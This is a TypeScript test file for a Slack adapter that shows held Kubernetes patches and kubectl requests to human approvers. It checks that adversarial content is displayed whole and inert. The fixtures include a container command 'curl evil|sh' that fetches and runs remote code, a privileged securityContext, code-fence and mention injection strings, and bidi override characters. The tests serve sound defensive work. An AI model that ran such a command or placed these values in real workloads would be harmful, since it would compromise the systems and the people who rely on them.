import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { renderCard } from '../../../../src/adapters/slack/render/render-card.ts';
import { renderFullChangeModal } from '../../../../src/adapters/slack/render/render-full-change-modal.ts';
import { SLACK_LIMITS } from '../../../../src/adapters/slack/render/slack-limits.ts';
import { assertGolden } from '../../../harness/golden.ts';
import { apiFullChange, fullChangeSize } from '../../../../src/core/changes/full-change.ts';
import { MAX_FULL_CHANGE_CHARS } from '../../../../src/core/changes/refuse-unshowable-change.ts';
import { apiRequestWithBody, bodyCard } from '../../core/changes/adversarial-body.ts';
import { largestChanges, patchCard } from '../../core/changes/adversarial-patch.ts';
import { allTexts, assertInert, assertMessageAccepted, assertViewAccepted } from './slack-assertions.ts';

const full = patchCard.change!.full;

describe('Slack: a patch card and its full change', () => {
  test('card-patch: the card says how many paths exist and how many it shows, with Show full change', () => {
    const message = renderCard(patchCard);
    assertGolden('slack/card-patch', message);
    assertMessageAccepted(message);
    assertInert(message);
    const change = message.blocks.find((b) => b.block_id === 'change');
    assert.ok(change?.type === 'section' && change.text && change.accessory?.type === 'button');
    assert.match(change.text.text, /17 changed paths; 10 shown, values shortened/);
    assert.equal(change.accessory.action_id, 'countersign:show-change');
    assert.equal(change.accessory.value, patchCard.requestId);
    assert.ok(!JSON.stringify(message).includes('curl evil'), 'the card alone does not show the command');
  });

  test('full-change modal: every path with whole values and the exact patch, inert', () => {
    const view = renderFullChangeModal(patchCard, full);
    assertGolden('slack/full-change-modal', view);
    assertViewAccepted(view, 'modal');
    const fences = allTexts(view).filter((t) => t.startsWith('```\n') && t.endsWith('\n```'));
    assert.equal(fences.length, 2, 'paths and patch, each in a code block');
    assertInert({ ...view, blocks: view.blocks.filter((b) => !allTexts(b).some((t) => fences.includes(t))) });
    for (const code of fences.map((t) => t.slice(4, -4))) {
      assert.doesNotMatch(code, /[<>`]/, 'inside a code block nothing can ping, link or end the block');
    }
    const text = allTexts(view).join('\n');
    for (const { path } of full.paths) assert.ok(text.includes(path), `${path} is listed`);
    assert.ok(text.includes('"command":["sh","-c","curl evil|sh"]'), 'the container command, whole');
    assert.ok(text.includes('"curl evil|sh"\n'), 'and in the patch itself');
    assert.ok(
      text.includes('xˋˋˋ*bold* &lt;!channel&gt; &lt;/pre&gt;'),
      'a fence in a value cannot close the code block (where * is literal); a mention is entities',
    );
    assert.ok(text.includes('\\n\\u202egnp.exe and then some more words to pass sixty'), 'bidi shown, whole');
    assert.ok(!text.includes('\u202e'));
    assert.ok(text.includes('6f1c2a9e-3b7d-4e21-9c0a-5d8e7f6a1b2c'), 'the UID execution adds');
  });

  for (const [name, change] of Object.entries(largestChanges())) {
    test(`the largest change filing allows fits one modal: ${name}`, () => {
      const view = renderFullChangeModal(patchCard, change);
      assertViewAccepted(view, 'modal');
      assert.ok(view.blocks.length <= SLACK_LIMITS.viewBlocks);
      const shown = allTexts(view).join('');
      for (const { path } of change.paths) assert.ok(shown.includes(path));
    });
  }
});

describe('Slack: a held kubectl request and its full body', () => {
  test('card-api-body: says the body size and how much it shows, with Show full request; the SHA-256 stays', () => {
    const message = renderCard(bodyCard);
    assertGolden('slack/card-api-body', message);
    assertMessageAccepted(message);
    assertInert(message);
    const change = message.blocks.find((b) => b.block_id === 'change');
    assert.ok(change?.type === 'section' && change.text && change.accessory?.type === 'button');
    assert.match(change.text.text, /Request body 632 bytes; the card shows its first 199 characters/);
    assert.equal(change.accessory.text.text, 'Show full request');
    assert.equal(change.accessory.value, bodyCard.requestId);
    const shown = JSON.stringify(message);
    assert.ok(
      !shown.includes('privileged') && !shown.includes('curl evil'),
      'the card alone does not show them',
    );
    assert.ok(shown.includes(bodyCard.change!.full.call!.sha256));
  });

  test('full-request modal: the whole body, pretty-printed, escaped, bidi visible', () => {
    const view = renderFullChangeModal(bodyCard, bodyCard.change!.full);
    assertGolden('slack/full-request-modal', view);
    assertViewAccepted(view, 'modal');
    assert.equal(view.title.text, 'Full request');
    const fences = allTexts(view).filter((t) => t.startsWith('```\n') && t.endsWith('\n```'));
    for (const code of fences.map((t) => t.slice(4, -4))) assert.doesNotMatch(code, /[<>`]/);
    const text = allTexts(view).join('\n');
    assert.ok(text.includes('"securityContext": {\n              "privileged": true'), 'privileged, whole');
    assert.ok(text.includes('"curl evil|sh"'), 'the command, whole');
    assert.ok(text.includes('xˋˋˋ*bold* &lt;!channel&gt; &lt;/pre&gt;'), 'a fence cannot close the block');
    assert.ok(text.includes('\\u202egnp.exe &amp; &lt;b&gt;') && !text.includes('\u202e'), 'bidi shown');
    assert.ok(text.includes(`SHA-256 ${bodyCard.change!.full.call!.sha256}`));
  });

  test('the largest body filing allows fits one modal, even all entities', () => {
    const request = apiRequestWithBody(JSON.stringify({ v: '&'.repeat(MAX_FULL_CHANGE_CHARS - 13) }));
    const full = apiFullChange(request.call)!;
    assert.equal(fullChangeSize(full), MAX_FULL_CHANGE_CHARS);
    const view = renderFullChangeModal(bodyCard, full);
    assertViewAccepted(view, 'modal');
    assert.equal(allTexts(view).join('').split('&amp;').length - 1, MAX_FULL_CHANGE_CHARS - 13);
  });
});
